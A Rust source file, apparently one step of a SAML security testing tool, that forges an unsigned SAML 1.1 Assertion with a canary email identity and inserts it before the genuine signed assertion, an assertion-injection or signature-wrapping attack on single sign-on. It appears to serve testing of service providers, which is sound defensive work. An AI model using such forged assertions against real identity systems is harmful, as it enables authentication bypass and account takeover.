//! Adds a forged, unsigned Assertion of SAML 1.1 before the genuine one.

use crate::draft::{Draft, StepError};
use crate::names;
use crate::xml::Element;

use super::Apply;

/// Assertions of SAML 1.0 and 1.1, which share their namespace.
const SAML11: &str = "urn:oasis:names:tc:SAML:1.0:assertion";

step! {
    /// Adds a forged, unsigned Assertion of SAML 1.1 before the genuine one.
    "saml11-assertion" => Saml11Assertion {}
}

impl Apply for Saml11Assertion {
    fn apply(&self, draft: &mut Draft<'_>) -> Result<(), StepError> {
        let canary = draft.canary();
        let address = format!("{canary}@contoso.example");
        let conditions = draft
            .assertion()?
            .find("Conditions")
            .ok_or_else(|| StepError::missing("Conditions"))?;
        let (start, end) = (conditions.attribute("NotBefore"), conditions.attribute("NotOnOrAfter"));
        let conditions = Element::new("Conditions")
            .with_optional("NotBefore", start)
            .with_optional("NotOnOrAfter", end)
            .child(
                Element::new("AudienceRestrictionCondition")
                    .child(Element::new("Audience").text(&draft.world.app().identifier)),
            );
        let subject = Element::new("Subject")
            .child(
                Element::new("NameIdentifier").with("Format", names::EMAIL_FORMAT).text(address.clone()),
            )
            .child(Element::new("SubjectConfirmation").child(
                Element::new("ConfirmationMethod").text("urn:oasis:names:tc:SAML:1.0:cm:bearer"),
            ));
        let now = draft.now().to_string();
        let assertion = Element::new("Assertion")
            .with("MajorVersion", "1")
            .with("MinorVersion", "1")
            .with("AssertionID", draft.id("forged-assertion"))
            .with("Issuer", draft.world.tenant().issuer())
            .with("IssueInstant", now.clone())
            .with("xmlns", SAML11)
            .child(conditions)
            .child(
                Element::new("AuthenticationStatement")
                    .with("AuthenticationMethod", "urn:oasis:names:tc:SAML:1.0:am:password")
                    .with("AuthenticationInstant", now)
                    .child(subject.clone()),
            )
            .child(
                Element::new("AttributeStatement").child(subject).child(
                    Element::new("Attribute")
                        .with("AttributeName", "PERSON_Email")
                        .with("AttributeNamespace", "urn:example:claims")
                        .child(Element::new("AttributeValue").text(address)),
                ),
            );
        draft.root.insert_before("Assertion", assertion);
        draft.unsigned_additions = true;
        Ok(())
    }
}
